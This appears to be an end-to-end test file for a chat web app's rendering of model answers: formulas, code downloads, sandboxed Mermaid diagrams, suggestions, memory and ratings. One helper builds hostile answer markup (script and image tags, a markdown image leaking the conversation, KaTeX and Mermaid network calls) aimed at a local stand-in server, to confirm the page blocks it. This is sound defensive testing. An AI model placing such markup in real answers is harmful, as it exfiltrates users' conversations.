import assert from 'node:assert/strict'
import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { after, before, test } from 'node:test'
import type { Page } from 'playwright-core'
import { z } from 'zod'
import { ask, answersOf, assertNoProblems, createWorld, waitForEnd, type World } from './world.ts'

const FORMULAS = [
  'It costs $5 and $10, so \\(a^2 + b^2 = c^2\\).',
  '',
  '$$',
  '\\frac{\\partial u}{\\partial t} = \\alpha \\nabla^2 u',
  '$$',
  '',
  '```python',
  '# wind.py',
  ...Array.from({ length: 50 }, (_, at) => `print(${at})`),
  '```',
].join('\n')
const DIAGRAM =
  '```mermaid\ngraph TD\n  A[Question] --> B{Where?}\n  B -->|here| C[This machine]\n```'
const hostile = (evil: string) =>
  [
    `<img src="${evil}/a.png"><script src="${evil}/x.js"></script>`,
    `![leak](${evil}/?q=the+whole+conversation)`,
    `\\(\\href{${evil}}{x} + \\includegraphics{${evil}/i.png}\\)`,
    `$$\\style{background:url(${evil}/b.png)}{x}$$`,
    // What Mermaid itself would fetch, run or open.
    `\`\`\`mermaid\n%%{init: {"securityLevel":"loose","themeCSS":"@import url(${evil}/s.css); * {background:url(${evil}/t.png)}"}}%%\ngraph TD\n  A["<img src='${evil}/m.png' onerror='fetch(\\"${evil}\\")'>"] --> B\n  click A href "${evil}/c" _blank\n  style B fill:url(${evil}/f.svg)\n\`\`\``,
    `\`\`\`mermaid\ngraph TD\n  A@{ img: "${evil}/node.png", label: "x" } --> B\n\`\`\``,
    '```mermaid\nthis is no diagram\n```',
  ].join('\n\n')
const ARABIC = 'الريح تهب من **الشمال**، و\\(x^2\\) رقم.\n\n- أولا\n- The HTML standard, ثانيا'

const LETTER = 'Please write this letter in formal German, as I always do with letters to citizens.'
const ANSWERS: Record<string, string> = {
  [LETTER]:
    'Here is the letter for the citizens of your town; please check the date before you send it.',
  formulas: FORMULAS,
  diagram: DIAGRAM,
  arabic: ARABIC,
}

let model: Server
/** Where hostile answers try to get to. */
let evil: Server
let visitors: string[] = []
let world: World
before(async () => {
  evil = createServer((request, response) => {
    visitors.push(request.url ?? '')
    response.end()
  }).listen(0, '127.0.0.1')
  model = createServer((request, response) => {
    void answer(request, response)
  }).listen(0, '127.0.0.1')
  ANSWERS['hostile'] = hostile(`http://127.0.0.1:${await portOf(evil)}`)
  world = await createWorld(
    ['--no-model'],
    `
providers:
  scripted:
    protocol: openai-chat
    baseUrl: http://127.0.0.1:${await portOf(model)}/v1
    apiKey: a-key-of-nobody-1234567890
    models: [gpt-oss-20b]
    tags: { isOwnHardware: true, dataZone: EU }
`,
  )
})
after(async () => {
  await world.close()
  for (const server of [model, evil]) {
    server.closeAllConnections()
    server.close()
  }
})

async function portOf(server: Server): Promise<number> {
  if (!server.listening) await once(server, 'listening')
  const address = server.address()
  assert.ok(address !== null && typeof address === 'object')
  return address.port
}

const Body = z.object({ messages: z.array(z.object({ content: z.string() })) })

const NEXT = ['Who has to sign the letter?', 'How do I send it by registered post?']

/** What is asked beside answers: what may come next, and what might be remembered. */
function besideAnswer(instruction: string, asked: string): string | undefined {
  if (instruction.includes('"questions"')) {
    return JSON.stringify({ questions: asked.includes('letter') ? NEXT : [] })
  }
  if (!instruction.includes('"fact"')) return undefined
  const about = { kind: 'writing_style', isAboutSomebodyElse: false, isPrivate: false }
  return JSON.stringify({ fact: 'Writes letters to citizens in formal German', ...about })
}

/** Answers with what the last word of the question is the name of, a few characters at a time. */
async function answer(request: IncomingMessage, response: ServerResponse): Promise<void> {
  const body = Body.parse(JSON.parse(Buffer.concat(await Array.fromAsync(request)).toString()))
  const { content: asked = '' } = body.messages.at(-1) ?? {}
  const text = besideAnswer(body.messages[0]?.content ?? '', asked) ?? ANSWERS[asked] ?? 'Yes.'
  response.writeHead(200, { 'content-type': 'text/event-stream' })
  const send = (chunk: object) => response.write(`data: ${JSON.stringify(chunk)}\n\n`)
  for (let at = 0; at < text.length; at += 40) {
    send({ choices: [{ index: 0, delta: { content: text.slice(at, at + 40) } }] })
  }
  const usage = { prompt_tokens: 20, completion_tokens: 400, total_tokens: 420 }
  send({ choices: [{ index: 0, delta: {}, finish_reason: 'stop' }], usage })
  response.write('data: [DONE]\n\n')
  response.end()
}

test('formulas are MathML, prices are prices, and code can be kept under its name', async () => {
  // Compressed as web/size.test.ts counts.
  const visit = await world.open({ extraHTTPHeaders: { 'accept-encoding': 'gzip' } })
  const { page } = visit
  const scripts = scriptsOf(page)
  await page.reload()
  const coloured = page.waitForResponse(/\/python-[^/]*\.js$/)
  await ask(page, 'formulas')
  await waitForEnd(page)
  const shown = answersOf(page).last()
  await shown.locator('math mfrac').waitFor()
  await coloured
  const unasked = [...scripts]
  assert.ok(unasked.some(([name]) => name.includes('/soon-')))
  assert.deepEqual(
    unasked.filter(([name]) => /\/(?:extras|workspace|mhchem)-/.test(name)),
    [],
  )
  const bytes = unasked.reduce((sum, [, size]) => sum + size, 0)
  assert.ok(bytes < 262_000, `${bytes} bytes: ${unasked.map((each) => each.join(' ')).join(', ')}`)
  assert.equal(await shown.locator('math').count(), 2)
  assert.match(await shown.locator('p').first().innerText(), /costs \$5 and \$10/)
  const saved = page.waitForEvent('download')
  await shown.getByRole('button', { name: 'Download' }).click()
  const file = await saved
  assert.equal(file.suggestedFilename(), 'wind.py')
  assert.match(await readFile(await file.path(), 'utf8'), /^# wind\.py\nprint\(0\)/)
  await page.reload()
  await shown.getByRole('button', { name: 'Show all 51 lines' }).click()
  await shown.getByRole('button', { name: 'Show less', expanded: true }).waitFor()
  assertNoProblems(visit)
  await visit.context.close()
})

/** What the page loads from now on, in bytes as they come. */
function scriptsOf(page: Page): Map<string, number> {
  const found = new Map<string, number>()
  page.on('response', (response) => {
    const { pathname } = new URL(response.url())
    const length = Number(response.headers()['content-length'] ?? 0)
    if (pathname.endsWith('.js')) found.set(pathname, length)
  })
  return found
}

test('below an answer stand what to ask next and what might be remembered, said once, sent or kept by a press', async () => {
  const visit = await world.open({ path: '/' })
  const { page } = visit
  const remembered = await page.evaluate(async () => {
    const { csrfToken } = await (await fetch('/api/session')).json()
    const headers = { 'content-type': 'application/json', 'x-galerne-csrf': csrfToken }
    const body = JSON.stringify({ isMemoryOn: true, isMemoryProposed: true })
    return (await fetch('/api/preferences', { method: 'PATCH', headers, body })).status
  })
  assert.equal(remembered, 200)
  await ask(page, LETTER)
  await waitForEnd(page)
  const suggested = page.getByRole('region', { name: 'Suggested questions' })
  const [first = '', second = ''] = NEXT
  await suggested.getByRole('button', { name: first }).waitFor()
  await page.getByRole('status').filter({ hasText: '2 suggested questions' }).waitFor({
    state: 'attached',
  })
  // With Alt, or its pencil, into the field; nothing is sent.
  const field = page.getByRole('textbox', { name: 'Message' })
  await suggested.getByRole('button', { name: first }).click({ modifiers: ['Alt'] })
  assert.equal(await field.inputValue(), first)
  await suggested.getByRole('button', { name: 'Edit' }).nth(1).click()
  assert.equal(await field.inputValue(), second)
  assert.equal(await field.evaluate((element) => element === document.activeElement), true)
  await field.fill('')

  const card = page.getByRole('region', { name: 'Remember this?' })
  await card.getByText('Writes letters to citizens in formal German').waitFor()
  await page.reload()
  await card.getByRole('button', { name: 'Edit' }).click()
  await card.getByRole('textbox').fill('I write to citizens in formal German.')
  await card.getByRole('button', { name: 'Remember' }).click()
  await card.waitFor({ state: 'detached' })
  const kept = await page.evaluate(async () => (await fetch('/api/memories')).text())
  assert.match(kept, /I write to citizens in formal German\./)

  await suggested.getByRole('button', { name: second }).press('Enter')
  await answersOf(page).nth(1).waitFor()
  await waitForEnd(page)
  await suggested.waitFor({ state: 'detached' })
  assertNoProblems(visit)
  await visit.context.close()
})

test('a diagram is drawn in a frame without origin or network, and can be kept', async () => {
  const visit = await world.open({ colorScheme: 'dark' })
  const { page } = visit
  await ask(page, 'diagram')
  const frame = page.frameLocator('iframe[title="Diagram"]')
  await frame.locator('svg .node').first().waitFor()
  const inside = page.frames().find((each) => each.url().endsWith('/diagram/frame.html'))
  assert.equal(await inside?.evaluate(() => globalThis.origin), 'null')
  const reached = await inside?.evaluate(() =>
    fetch('/api/session').then(
      () => 'reached',
      () => 'refused',
    ),
  )
  assert.equal(reached, 'refused')
  for (const [name, start] of [
    ['Save as SVG', '<svg'],
    ['Save as PNG', '\u0089PNG'],
  ] as const) {
    const saved = page.waitForEvent('download')
    await page.getByRole('button', { name }).click()
    const file = await readFile(await (await saved).path(), 'latin1')
    assert.ok(file.startsWith(start), `${name}: ${file.slice(0, 20)}`)
  }
  // That it was refused is what the page told us.
  assertNoProblems(visit, /connect|refused|Content Security Policy/i)
  await visit.context.close()
})

/** In the page: all that something could hang on. */
function pokeAll(): void {
  for (const element of document.querySelectorAll('*')) {
    for (const type of ['mouseover', 'load', 'error', 'focus']) {
      element.dispatchEvent(new Event(type, { bubbles: true }))
    }
  }
}

/** Shows the hostile answer until all of its diagrams are drawn or given up, and pokes all that is drawn. */
async function showHostile(page: Page): Promise<void> {
  await ask(page, 'hostile')
  await waitForEnd(page)
  await page.getByText('This diagram cannot be drawn').first().waitFor()
  await page.locator('.md-diagram-wait').first().waitFor({ state: 'detached' })
  for (const frame of page.frames()) {
    await frame.evaluate(pokeAll).catch((error: unknown) => {
      // A frame in which something was drawn goes when that is given up.
      if (!frame.isDetached()) throw error
    })
  }
}

test('where nobody enforces the policies, a hostile diagram does reach out', async () => {
  const { page, context } = await world.open({ bypassCSP: true })
  const reached = once(evil, 'request')
  await showHostile(page)
  await reached
  assert.ok(visitors.length > 0)
  await context.close()
})

test('nothing that a model wrote makes the browser ask for anything', async () => {
  visitors = []
  const visit = await world.open()
  await showHostile(visit.page)
  // What was begun has arrived by the time that a request of our own has come back twice.
  for (const _ of [1, 2])
    await visit.page.evaluate(() => fetch('/api/health').then((one) => one.text()))
  assert.deepEqual(visitors, [])
  await visit.context.close()
})

test('an answer says where it comes from and what it took, and can be rated and rated otherwise', async () => {
  const visit = await world.open()
  const { page } = visit
  await ask(page, 'hello')
  await waitForEnd(page)
  const shown = answersOf(page).last()
  await shown.getByRole('button', { name: 'More' }).click()
  await page.getByRole('menuitem', { name: 'Where this answer comes from' }).click()
  const dialog = page.getByRole('dialog', { name: 'Where this answer comes from' })
  await dialog.getByText('scripted', { exact: false }).first().waitFor()
  await dialog.getByText('Wh, an estimate').waitFor()
  await page.keyboard.press('Escape')
  await page.waitForFunction(() => document.activeElement?.getAttribute('aria-label') === 'More')
  await shown.getByRole('button', { name: 'Good answer' }).click()
  await shown.getByRole('button', { name: 'Good answer', pressed: true }).waitFor()
  await shown.getByRole('button', { name: 'Bad answer' }).click()
  await page.getByRole('checkbox', { name: 'It is wrong' }).check()
  await page.getByRole('button', { name: 'Save' }).click()
  await shown.getByRole('button', { name: 'Bad answer', pressed: true }).waitFor()
  await page.reload()
  await shown.getByRole('button', { name: 'Bad answer', pressed: true }).waitFor()
  assertNoProblems(visit)
  await visit.context.close()
})

test('right-to-left text stands right in a left-to-right page, its formulas left to right', async () => {
  const visit = await world.open()
  const { page } = visit
  await ask(page, 'arabic')
  await waitForEnd(page)
  const shown = answersOf(page).last()
  await shown.locator('math').waitFor()
  const directions = await shown.evaluate((article) =>
    ['.md p', '.md math', '.md li:last-child .md-line'].map((selector) => {
      const found = article.querySelector(selector)
      return found && getComputedStyle(found).direction
    }),
  )
  assert.deepEqual(directions, ['rtl', 'ltr', 'ltr'])
  await visit.context.close()
})
